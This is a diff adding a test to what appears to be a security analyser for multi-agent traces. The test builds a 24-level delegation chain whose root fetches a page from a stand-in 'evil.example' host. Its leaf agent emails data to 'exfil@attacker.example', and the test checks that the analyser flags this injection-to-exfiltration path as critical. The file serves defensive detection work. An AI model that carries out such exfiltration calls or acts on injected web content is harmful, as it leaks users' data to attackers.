@@ -278,3 +278,39 @@ def test_policy_untrusted_agents_are_sources() -> None:
     assert f.severity == "low"
     assert path_ids(f) == [eid(trace, "return", agent="web_browser"), eid(trace, "tool_call", tool="send_email")]
     assert path_vias(f) == [None, "return"]
+
+
+def test_deep_delegation_chain_path() -> None:
+    """A chain of 24 nested agents (deeper than the 16 levels contexts are shared by reference,
+    so both sharing and copying are on the path): the evidence names every hand-off."""
+    depth = 24
+
+    def make(level: int):  # type: ignore[no-untyped-def]
+        if level == depth:
+            @orchtrace.agent(name=f"a{level}", tools=["send_email"])
+            def leaf(x: str) -> str:
+                return send_email("exfil@attacker.example", "s", "b")
+
+            return leaf
+        inner = make(level + 1)
+
+        @orchtrace.agent(name=f"a{level}")
+        def mid(x: str) -> str:
+            return inner(x)
+
+        return mid
+
+    top = make(1)
+
+    @orchtrace.agent(name="root", tools=["fetch_page", "send_email"])
+    def root(task: str) -> str:
+        fetch_page("https://evil.example/p")
+        return top(task)
+
+    trace = run(lambda: root("go"))
+    [f] = findings(trace, code="OTA101")
+    spawns = [eid(trace, "spawn", target=f"a{k}") for k in range(1, depth + 1)]
+    assert path_ids(f) == [eid(trace, "tool_result", tool="fetch_page"), *spawns,
+                           eid(trace, "tool_call", tool="send_email")]
+    assert path_vias(f) == [None, "causal"] + ["spawn"] * depth
+    assert f.severity == "critical"
